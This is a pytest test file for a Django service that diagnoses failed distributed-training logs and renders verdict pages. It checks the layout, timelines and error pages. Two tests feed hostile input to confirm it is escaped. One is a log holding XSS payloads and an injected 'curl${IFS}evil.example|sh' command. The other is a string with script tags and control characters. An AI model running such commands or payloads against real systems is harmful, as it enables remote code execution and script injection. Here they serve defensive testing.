from __future__ import annotations

import datetime as dt
import re
from http import HTTPStatus
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from diagnosis import store
from diagnosis.models import Job
from diagnosis.samples import SAMPLES
from diagnosis.store import StoreUnavailableError
from encyclopedia.catalogue import SHORT_PAGE
from encyclopedia.models import Failure
from tests.diagnosis.conftest import Answered, MakeJob, Told, case_log
from tests.diagnosis.parsed import Parsed
from tests.diagnosis.verdicts import consequence, evidence, fate, recovered, verdict

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("redis")]

KILLED = "lab-sigkill-torchrun8"
EVICTED = "sto-tgi-pod-stops-at-13-of-30"


@pytest.fixture
def failures(db: None) -> None:
    call_command("load_failures", verbosity=0)


def text_of(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


def show(client: Client, job: Job) -> str:
    response = client.get(f"/d/{job.pk}/")
    assert response.status_code == HTTPStatus.OK
    return response.text


def test_it_works(client: Client, answered: Answered, failures: None) -> None:
    page = show(client, answered(case_log(KILLED)))

    text = text_of(page)
    assert "Process Killed by SIGKILL" in text
    assert "Failed first Rank 6 on localhost" in text
    assert re.search(r"The log says Line \d+ : .*exitcode: -9", text)
    assert 'href="/failures/process-killed-by-sigkill/"' in page
    assert "Verify" in text
    assert re.search(r"\b6 1 failed first localhost line \d+ Process Killed by SIGKILL", text)
    assert page.count("<h1") == 1


def test_address_that_opens_a_log_is_not_printed(client: Client, answered: Answered) -> None:
    assert "data-printed></p>" in show(client, answered(case_log(KILLED)))
    assert "data-printed data-address></p>" in client.get("/d/sample-killed-rank/").text


def test_page_is_private_and_not_for_search_engines(client: Client, answered: Answered) -> None:
    response = client.get(f"/d/{answered(case_log(KILLED)).pk}/")

    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Robots-Tag"] == "noindex, nofollow"
    assert "Set-Cookie" not in response


def test_evidence_stands_in_its_context(client: Client, answered: Answered) -> None:
    log = case_log(KILLED)
    page = show(client, answered(log))

    (line, *_) = re.findall(r'<li id="L(\d+)" class="log-evidence">', page)
    lines = log.decode().split("\n")
    for number in range(int(line) - 3, int(line) + 4):
        assert f'id="L{number}"' in page
    told = " ".join(lines[int(line) - 2].split())[:40]
    assert told.split()[0] in text_of(page)


def test_answer_names_the_failure_that_was_asked_about(
    client: Client, answered: Answered, failures: None
) -> None:
    asked = {
        "process-killed-by-sigkill": "Yes: this is",
        "gloo-peer-closed": "follows from the cause",
        "truncated-weights-file": "No: nothing in this log shows",
    }
    for slug, words in asked.items():
        page = show(client, answered(case_log(KILLED) + slug.encode(), asked_about=slug))
        assert words in text_of(page), slug


def test_masked_values_are_named_by_line(client: Client, answered: Answered) -> None:
    page = show(client, answered(b"first\ndialling 203.0.113.8\n" + case_log(KILLED)))

    assert "&lt;ip-1&gt; IP address once, on line 2" in text_of(page)


def test_masked_values_beyond_the_list_are_counted(client: Client, answered: Answered) -> None:
    addresses = b"".join(b"dialling 10.7.0.%d\n" % n for n in range(1, 61))
    page = show(client, answered(addresses + case_log(KILLED)))

    assert "&lt;ip-50&gt;" in page
    assert re.search(r"And 1\d more\.", text_of(page))


HOSTILE = b"""\
+ python train.py
<script>alert(1)</script><img src=x onerror=alert(1)>
The node was low on resource: ephemeral-storage. \
Container x;curl${IFS}evil.example|sh was using 9Gi, which exceeds its request of 0.
Traceback (most recent call last):
  File "<svg/onload=alert(1)>.py", line 1, in <module>
RuntimeError: </code></pre><script>alert(2)</script>{{ 7|add:7 }}{% debug %}
"""


def test_hostile_log_is_shown_as_text_and_never_in_a_command(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(HOSTILE))

    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "<svg/onload" not in page
    commands = re.findall(r'<div class="command">.*?</div>', page, re.DOTALL)
    assert not any("evil.example" in command for command in commands)
    assert "14" not in re.findall(r"RuntimeError:.*", page)[0][:200]


HEALTHY = b"".join(b"INFO step %d loss %.3f\n" % (n, 3 / n) for n in range(1, 60))
TALK = b"""\
CUDA kernel errors might be asynchronously reported at some other API call, \
so the stacktrace below might be incorrect.
For debugging consider passing CUDA_LAUNCH_BLOCKING=1
This may be caused by an out of memory error. See the troubleshooting guide.
"""


@pytest.mark.parametrize("log", [HEALTHY, TALK + HEALTHY], ids=["healthy", "talk of errors"])
def test_no_failure_is_never_called_healthy(client: Client, answered: Answered, log: bytes) -> None:
    text = text_of(show(client, answered(log)))

    assert "Nothing failed in what we read" in text
    assert "not to say that the run was well" in text
    assert "healthy" not in text.lower()


def test_run_that_a_person_stopped_is_not_asked_whether_it_vanished(
    client: Client, answered: Answered
) -> None:
    text = text_of(show(client, answered(case_log("neg-lab-ctrl-c-lightning2"))))

    assert "A person stopped this run" in text
    assert "Was it stopped because it hung?" in text
    assert "Did it vanish?" not in text


def test_unreadable_text_costs_nothing(client: Client, answered: Answered) -> None:
    job = answered(b"GGUF is how this file begins, and the engine knows what such files are\n")

    text = text_of(show(client, job))

    assert "We cannot read a run out of this text." in text
    assert "given back" in text
    assert not hasattr(job, "allowance_entry")


def test_unrecognised_failure_says_so_and_where_to_start(
    client: Client, answered: Answered
) -> None:
    log = b"""\
step 1
[rank2]: Traceback (most recent call last):
[rank2]:   File "/workspace/train/odd.py", line 88, in fold
[rank2]:     weave(strands)
[rank2]: zephyr.loom.TangledStrandError: strand 7 crosses itself
"""
    job = answered(log)
    text = text_of(show(client, job))

    assert "(first error, rank 2)" in text
    assert not re.search(r"\bcause (?:·|, rank)", text)
    assert "first error · rank 2" in text_of(client.get(f"/d/{job.pk}/log/1/").text)
    assert "Unrecognised" in text
    assert "TangledStrandError: strand 7 crosses itself" in text
    assert "Rank 2" in text
    assert "Where to start" in text


ALMOST_KNOWN = b"""\
[rank2]: Traceback (most recent call last):
[rank2]:   File "/workspace/train/odd.py", line 88, in fold
[rank2]:     conv(x)
[rank2]: zephyr.loom.KernelError: cuDNN gave CUDNN_STATUS_WOVEN_TWICE
"""


def test_unrecognised_failure_leads_to_the_nearest_ones_and_to_telling_us(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(ALMOST_KNOWN))

    _, _, nearest = page.partition('<h2 id="nearest">')
    nearest, _, rest = nearest.partition("</section>")
    assert nearest.count("<h3>") == 3
    assert 'href="/failures/cudnn-alloc-failed-oom/"' in nearest
    text = text_of(nearest)
    assert "CUDNN_STATUS_ALLOC_FAILED" in text
    assert "your line alone says" in text
    assert "CUDNN_STATUS_WOVEN_TWICE" in text
    assert '<a href="#feedback">Tell us</a>' in page
    assert '<h2 id="feedback">Tell us what it was</h2>' in rest


def test_recognised_failure_names_no_nearest_ones(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log(KILLED)))

    assert 'id="nearest"' not in page
    assert '<h2 id="feedback">Was this wrong?</h2>' in page


def test_unrecognised_failure_like_no_other_says_so(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(b"[rank0]: quokka.QuokkaError: the quokka is asleep\n" * 9))

    assert "No failure of the catalogue prints anything like this line." in page


def test_visitor_is_told_what_an_account_gives_and_comes_back_from_signing_up(
    client: Client, answered: Answered
) -> None:
    job = answered(case_log(KILLED))

    assert f'href="/account/signup/?next=/d/{job.pk}/"' in show(client, job)


def test_symptom_alone_says_what_would_decide(
    client: Client, answered: Answered, failures: None
) -> None:
    text = text_of(show(client, answered(case_log("comm-three-ranks-wait-for-stop-flag"))))

    assert "Symptom only" in text
    assert "the cause is not in this log" in text


def test_commands_to_collect_more_are_shown_as_code(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log(KILLED)))

    assert "<code>grep -w oom_kill /proc/vmstat</code>" in page
    assert "`" not in page.partition('id="keeping"')[0]


def test_link_promises_what_the_page_of_the_failure_holds(
    client: Client, answered: Answered, failures: None
) -> None:
    shortened = Failure.objects.get(slug="python-zero-division")
    shortened.sections = [each for each in shortened.sections if each["heading"] in SHORT_PAGE]
    shortened.save(update_fields=["sections"])
    full = text_of(show(client, answered(case_log(KILLED))))
    short = text_of(show(client, answered(b"[rank2]: ZeroDivisionError: division by zero\n")))

    assert "All about Process Killed by SIGKILL" in full
    assert "how to prevent it" in full
    assert "its messages, its look-alikes and its sources" in short
    assert "how to prevent it" not in short


def test_lines_of_several_files_have_anchors_of_their_own(
    client: Client, answered: Answered
) -> None:
    quiet = b"".join(b"step %d\n" % n for n in range(30))
    loud = quiet + b"Traceback (most recent call last):\n  File \"t.py\", line 1\nKeyError: 'x'\n"

    page = show(client, answered(quiet, loud))

    assert re.search(r'id="F2-L3[123]" class="log-evidence"', page)


def test_file_that_all_evidence_is_in_is_named_once_and_others_each_time(
    client: Client, told: Told
) -> None:
    fates = [fate(0, "initiated", first_line=1), fate(1, file="rank_1.log", first_line=1)]
    here, there = evidence(2, 0), evidence(2, 1, file="rank_1.log", role="symptom")
    logs = (b"one\ntwo\n", b"three\nfour\n")

    one = text_of(show(client, told(verdict(fates, [here], rank=0), *logs)))
    both = text_of(show(client, told(verdict(fates, [here, there], rank=0), *logs)))

    assert "Marked in log.txt: line 2 (cause, rank 0)" in one
    assert "Where no file is named, a line is of log.txt." in one
    assert "1 of rank_1.log" in one
    assert "Marked in log.txt: line 2 (cause, rank 0); in rank_1.log: line 2 (symptom" in both
    assert "Where no file is named" not in both


def test_commands_are_broken_between_their_words(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log("lab-disk-full-rank0-torchrun4")))

    assert '<span class="word">--max-depth=2</span>' in page


def timeline_of(page: str) -> str:
    (drawing,) = re.findall(r'<svg class="timeline".*?</svg>\n<figcaption', page, re.DOTALL)
    return drawing


def test_timeline_and_table_say_the_same(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log("lab-disk-full-rank0-torchrun4")))
    drawing = Parsed(timeline_of(page))
    table = Parsed(page[page.index('<table class="fates') :].partition("</table>")[0])

    assert drawing.all("g", role="img")
    assert "Timeline of 4 ranks" in timeline_of(page)
    assert "Rank 0: failed first." in timeline_of(page)
    marks = drawing.values("href")
    assert len(marks) >= 3
    assert set(marks) <= set(table.values("href"))
    assert "Time runs to the right" in text_of(page)


def test_rank_that_lags_shows_by_the_number_of_its_last_collective(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log("comm-one-rank-a-collective-behind")))
    table = page[page.index('<table class="fates') :].partition("</table>")[0]

    assert "Last collective" in text_of(table)
    assert "#19841" in text_of(table)
    assert text_of(timeline_of(page)).count("#19842") == 3
    assert "# is the last collective that a rank entered." in text_of(page)


def test_table_tells_each_rank_what_befell_it_also_where_another_told_it_first(
    client: Client, told: Told, failures: None
) -> None:
    ranks = [fate(0, "initiated"), *(fate(n, "aborted_by_peer", first_line=n) for n in (1, 2))]
    proofs = [evidence(3, 0), evidence(4, 1, role="consequence")]
    followed = [
        consequence("gloo-peer-closed", 4, 1, 2),
        consequence("torchelastic-child-failed", 5, 0, 1, 2),
    ]
    of = verdict(ranks, proofs, rank=0, consequences=followed)
    page = show(client, told(of, b"line\n" * 9))
    rows = page[page.index('<table class="fates') :].partition("</table>")[0].split("<tr>")[2:]

    assert "line 4 Gloo Peer Closed" in text_of(rows[1])
    assert "Gloo Peer Closed" in text_of(rows[2])
    assert "line 4" not in text_of(rows[2])
    assert "torchrun" not in text_of(rows[2])


def test_stamps_of_the_table_end_at_the_millisecond(client: Client, told: Told) -> None:
    stamps = {"first_time": "2026-11-30T06:36:47.105133533Z", "last_time": "06:36:48,1057"}
    of = verdict([fate(0, "initiated"), fate(1, first_line=1, **stamps)], [evidence(2, 0)], rank=0)
    page = show(client, told(of, b"line\n" * 9))

    assert "2026-11-30T06:36:47.105Z\n– 06:36:48,105" in page


def test_axis_can_be_lines_instead(client: Client, answered: Answered) -> None:
    job = answered(case_log("lab-disk-full-rank0-torchrun4"))
    page = client.get(f"/d/{job.pk}/?axis=lines").text

    assert "Lines run to the right, not time." in text_of(page)
    assert 'href="?axis=lines#fates">Show it by lines' in show(client, job)
    assert 'href="?#fates">Show it by time' in page


def test_ranks_that_are_missing_are_told_in_lanes_table_and_text(
    client: Client, answered: Answered
) -> None:
    """A gap below the highest rank is certain, also where no world size is printed."""
    spoken = [rank for rank in range(8) if rank not in (4, 5)]
    log = "".join(f"[rank{rank}]: step {step} loss 0.5\n" for step in range(9) for rank in spoken)
    log += "[rank2]: Traceback (most recent call last):\n[rank2]: KeyError: 'labels'\n"

    job = answered(log.encode())
    page = show(client, job)

    assert "6 ranks speak in it. Not in this log: ranks 4–5." in text_of(page)
    assert re.search(r"lane fate--not_in_this_log.*?lane-name[^>]*>ranks? 4–5<", page)
    assert "Ranks 4–5: not in this log." in page
    assert re.search(r'fate--not_in_this_log".*not in this log', page)
    assert "- 4–5: not in this log" in client.get(f"/d/{job.pk}.md").text


@pytest.mark.parametrize(
    ("skews", "words", "not_told"),
    [
        (None, "The clocks of the hosts could not be compared.", "corrected"),
        ({"node-0": 0.0, "node-1": 3.0}, "The clocks of node-2 and node-3 could not", "the hosts"),
        ({"node-0": 0.0, "node-1": 0.0}, "The clocks of node-2 and node-3 could not", "corrected"),
        ({f"node-{n}": 0.5 * n for n in range(3)}, "The clock of node-3 could not", "the hosts"),
        ({f"node-{n}": 0.5 * n for n in range(4)}, "Clocks corrected:", "could not be compared"),
    ],
    ids=["none", "two of four", "two that agree", "all but one", "all"],
)
def test_caption_tells_which_clocks_were_not_compared(
    client: Client, told: Told, skews: dict[str, float] | None, words: str, not_told: str
) -> None:
    log = b"".join(b"2026-11-30 06:00:%02d [rank%d]: step 1\n" % (n, n % 4) for n in range(40))
    ranks = [fate(n, host=f"node-{n}", first_line=n + 1, last_line=n + 37) for n in range(4)]
    coverage = verdict()["coverage"] | {"clock_skew": skews}

    page = show(client, told(verdict(ranks, [evidence(9, 0)], rank=0, coverage=coverage), log))

    caption = text_of(page.partition('<figcaption class="count">')[2].partition("</fig")[0])
    assert words in caption
    assert not_told not in caption


def test_clocks_that_run_apart_are_told(client: Client, answered: Answered) -> None:
    text = text_of(show(client, answered(case_log("lab-disk-full-skew-4node-files"))))

    assert "Clocks corrected: gpu-a-019 412 s ahead." in text


def crowded(world: int) -> tuple[dict[str, Any], bytes]:
    """Return a verdict with as much in it as there can be, over `world` ranks, and its log."""
    ranks = [
        fate(
            n,
            "initiated" if n == 7 % world else ("stalled_waiting", "torn_down")[n % 2],
            host=f"gpu-cluster-west-node-{n // 8:04}.internal.example",
            first_line=n + 1,
            last_line=world + n + 1,
            first_time="2026-11-30 06:00:00,000",
            last_time="2026-11-30 06:30:00,000",
        )
        for n in range(world)
    ]
    last = 2 * world + 400
    proofs = [
        evidence(
            last * (n + 1) // 6,
            (7 + n) % world,
            role=("cause", "symptom", "summary")[n % 3],
            text="x" * 400,
        )
        for n in range(5)
    ]
    slugs = [f"failure-{n}" for n in range(12)]
    of = verdict(
        ranks,
        proofs,
        rank=7 % world,
        fix={"summary": "Free some.", "command": "df -h", "verify": "df -h", "infra": "Alert."},
        consequences=[
            consequence(slug, 20 * n + 3, n % world, count=99, hosts=["a", "b", "c", "d"])
            for n, slug in enumerate(slugs)
        ],
        hypotheses=[
            {"failure": slug, "for": "`x`", "against": "y", "collect_next": "z"}
            for slug in slugs[:3]
        ],
        recovered=[recovered(slug, 9, 0) for slug in slugs[:6]],
        stack=dict.fromkeys(("torch", "cuda", "nccl", "python", "launcher"), "1.0"),
    )
    lines = [
        f"2026-11-30 06:{n * 30 // last:02}:00,000 [rank{n % world}] from 10.0.{n // 250}.{n % 250}"
        for n in range(last)
    ]
    return of, "\n".join(lines).encode()


@pytest.mark.parametrize("world", [1, 8, 24, 64, 1024])
def test_page_stays_small_however_much_it_tells(client: Client, told: Told, world: int) -> None:
    page = show(client, told(*crowded(world)))
    drawing = timeline_of(page)

    assert len(drawing.encode()) < 30_000
    assert len(Parsed(page).elements) < 1_400
    assert "&lt;ip-50&gt;" in page


def test_log_of_a_thousand_files_is_listed_elsewhere(client: Client, told: Told) -> None:
    of = verdict([fate(0, "initiated"), fate(1)], [evidence(2, 0)], rank=0)
    job = told(of, *(b"one\ntwo\nthree\n" for _number in range(1000)))

    page = show(client, job)

    assert len(Parsed(page).elements) < 400
    assert "All 1000 files" in page
    assert page.count("rank_999.log") == 0
    assert "rank_999.log" in client.get(f"/d/{job.pk}/log/").text


ODD: dict[str, dict[str, Any]] = {
    "no ranks, no times": verdict([], [evidence(1)]),
    "no evidence": verdict([fate(0), fate(1)], [], outcome="no_failure"),
    "ties": verdict([fate(n, "aborted_by_peer") for n in range(3)], [evidence(1, 1)]),
    "huge rank": verdict([fate(0)], [evidence(1, 2**63)], rank=2**63),
    "line behind the end": verdict([fate(0, first_line=9**9)], [evidence(9**9, 0)], rank=0),
    "file that is not there": verdict([fate(0)], [evidence(1, 0, file="gone.log")], rank=0),
    "skew of unknown hosts": verdict(
        [fate(0, first_line=1), fate(1, first_line=2)],
        [evidence(1, 0)],
        coverage=verdict()["coverage"] | {"clock_skew": {"node-9": 1e9}},
    ),
}


@pytest.mark.parametrize("of", ODD.values(), ids=ODD)
def test_odd_verdicts_have_a_page(client: Client, told: Told, of: dict[str, Any]) -> None:
    job = told(of, b"one\ntwo\nthree\n")

    page = Parsed(show(client, job))

    ids = page.values("id")
    assert len(ids) == len(set(ids))
    assert {href[1:] for href in page.values("href") if href.startswith("#")} <= set(ids)
    assert client.get(f"/d/{job.pk}.md").status_code == HTTPStatus.OK


def test_hostile_words_of_a_verdict_are_shown_and_do_not_act(client: Client, told: Told) -> None:
    evil = '\u202e"><script>alert(1)</script><svg onload=alert(2)>\x1b[31m'
    of = verdict(
        [fate(n, host=evil, first_time=evil, first_line=1) for n in range(2)],
        [evidence(1, 0, text=evil)],
        rank=0,
        stack={evil: evil},
    )
    of["primary"] |= {"summary": evil, "why": f"Line 1 {evil}", "host": evil, "time": evil}

    page = show(client, told(of, evil.encode()))

    assert "<script>alert" not in page
    assert "<svg onload" not in page
    assert not re.search(r"[\u202e\x1b]", page)


def test_nothing_of_a_page_is_styled_or_scripted_inline(
    client: Client, answered: Answered, failures: None
) -> None:
    page = Parsed(show(client, answered(case_log(KILLED))))

    assert not page.values("style")
    assert not page.all("style")
    assert all("src" in script for script in page.all("script"))
    assert not [name for _tag, found in page.elements for name in found if name.startswith("on")]


def test_lines_are_linked_where_the_reasons_name_them(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log(KILLED)))

    assert '<a href="#L64">Line 64</a> is the first sign' in page


def test_louder_failures_are_told_once_with_reason_line_and_link(
    client: Client, answered: Answered, failures: None
) -> None:
    page = show(client, answered(case_log(KILLED)))

    (fold,) = re.findall(
        r"<details[^>]*>\s*<summary>[^<]*not the cause.*?</details>", page, re.DOTALL
    )
    assert 'href="/failures/gloo-peer-closed/"' in fold
    text = text_of(fold)
    assert text.startswith("2 other failures, on 44 lines: not the cause")
    assert "Gloo Peer Closed the Connection on ranks 5, 7 follows from it. on localhost" in text
    assert "first on line 38" in text
    assert "Elastic Launcher Reports a Failed Worker" in text
    assert text_of(page.partition('id="fates"')[0]).count("Gloo Peer Closed the Connection") == 1


def test_second_reason_against_a_failure_is_told_too(client: Client, told: Told) -> None:
    of = verdict([], [evidence(1)], consequences=[consequence("peer-lost", 2)])
    of["primary"]["why"] += " peer-lost follows from it. peer-lost (line 3) came later."

    page = show(client, told(of, b"one\ntwo\nthree\n"))

    assert '<li><a href="/failures/peer-lost/">peer-lost</a> (<a' in page
    assert "peer-lost follows from it." in text_of(page)


def test_many_louder_failures_are_folded(client: Client, told: Told) -> None:
    slugs = [f"failure-{n}" for n in range(4)]
    of = verdict([], [evidence(1)], consequences=[consequence(slug, 2) for slug in slugs])

    few = show(client, told(of | {"consequences": of["consequences"][:3]}, b"one\ntwo\n"))
    many = show(client, told(of, b"one\ntwo\n"))

    assert '<details class="fold" open>\n<summary>3 other failures' in few
    assert '<details class="fold">\n<summary>4 other failures' in many


def test_one_rank_that_failed_first_is_told_of_once(client: Client, told: Told) -> None:
    proof = evidence(1, 0)
    alone = show(client, told(verdict([fate(0, "initiated")], [proof], rank=0), b"one\n"))
    two = show(client, told(verdict([fate(0, "initiated"), fate(1)], [proof], rank=0), b"one\n"))

    assert 'id="fates"' not in alone
    assert 'id="fates"' in two


def test_log_without_ranks_says_so_once(client: Client, told: Told) -> None:
    text = text_of(show(client, told(verdict([], [evidence(1)]), b"one\n")))

    assert "Failed first" not in text
    assert text.count("names no ranks") == 1


def test_what_speaks_for_all_possibilities_alike_is_said_once(client: Client, told: Told) -> None:
    possible = [
        {
            "failure": f"failure-{n}",
            "for": "It is dead.",
            "against": f"No {n}.",
            "collect_next": "x",
        }
        for n in range(3)
    ]
    of = verdict([], [evidence(1)], outcome="symptom_only", hypotheses=possible)

    def part(of: dict[str, Any]) -> str:
        page = show(client, told(of, b"one\n"))
        return text_of(page.partition('id="possibilities">')[2].partition("</section>")[0])

    several, one = part(of), part(of | {"hypotheses": possible[:1]})

    assert several.count("It is dead.") == 1
    assert "For all of them: It is dead." in several
    assert "Against it: No 2. Collect next: x" in several
    assert "For it: It is dead. Against it: No 0." in one


def test_place_in_the_code_stands_beside_the_summary(client: Client, answered: Answered) -> None:
    page = show(client, answered(ALMOST_KNOWN))

    heading = text_of(page.partition("<h1")[2].partition("</h1>")[0])
    assert "raised at" not in heading
    assert "Raised at" in text_of(page)
    assert "odd.py:88 in fold</code>" in page
    assert "CUDNN_<wbr>STATUS_<wbr>WOVEN_<wbr>TWICE" in page
    assert "Medium confidence" not in page


def test_no_failure_leads_to_pasting_more(client: Client, answered: Answered) -> None:
    page = show(client, answered(HEALTHY))

    box = page.partition('<section class="verdict"')[2].partition("</section>")[0]
    assert '<a class="button" href="/diagnose/">' in box


@pytest.mark.parametrize("sample", SAMPLES)
def test_sample_shows_the_whole_answer_and_says_that_it_is_one(
    client: Client, failures: None, sample: str
) -> None:
    response = client.get(f"/d/{sample}/")

    assert response.status_code == HTTPStatus.OK
    assert "<title>SAMPLE: " in response.text
    text = text_of(response.text)
    assert "Evidence" in text
    assert "Delete now" not in text
    assert not response.cookies
    assert not Job.objects.exists()


def test_waiting_page_says_the_place_and_reloads_without_script(
    client: Client, make_job: MakeJob
) -> None:
    make_job(queued_for=dt.timedelta(seconds=5))
    job = make_job()

    page = show(client, job)

    assert "Number 2 in line." in page
    assert '<noscript><meta http-equiv="refresh"' in page


def test_running_page(client: Client, make_job: MakeJob) -> None:
    job = make_job(state="running", lease="one", lease_until=timezone.now())

    assert "The engine is reading it now." in show(client, job)


@pytest.mark.parametrize("reason", Job.FailureReason.values)
def test_failed_page_says_whose_fault_it_was(
    client: Client, make_job: MakeJob, reason: str
) -> None:
    page = show(client, make_job(state="failed", failure_reason=reason))

    assert "the fault is ours" in page
    assert "given back" in page


def test_unknown_id_is_a_404_that_says_so(client: Client) -> None:
    response = client.get("/d/abcdefghijklmnopqrstuvwxyz/")

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert "There is no diagnosis at this address" in response.text


def test_expired_id_is_a_404_that_says_so(client: Client, make_job: MakeJob) -> None:
    job = make_job(state="done", expires_at=timezone.now() - dt.timedelta(minutes=1))

    response = client.get(f"/d/{job.pk}/")

    assert response.status_code == HTTPStatus.NOT_FOUND
    assert "This diagnosis has expired" in response.text


def test_store_that_does_not_answer_is_a_503(
    client: Client, make_job: MakeJob, monkeypatch: pytest.MonkeyPatch
) -> None:
    def away(_job_id: str) -> None:
        raise StoreUnavailableError("TimeoutError")

    monkeypatch.setattr(store, "read_verdict", away)

    response = client.get(f"/d/{make_job(state='done').pk}/")

    assert response.status_code == HTTPStatus.SERVICE_UNAVAILABLE
    assert response["Retry-After"] == "30"
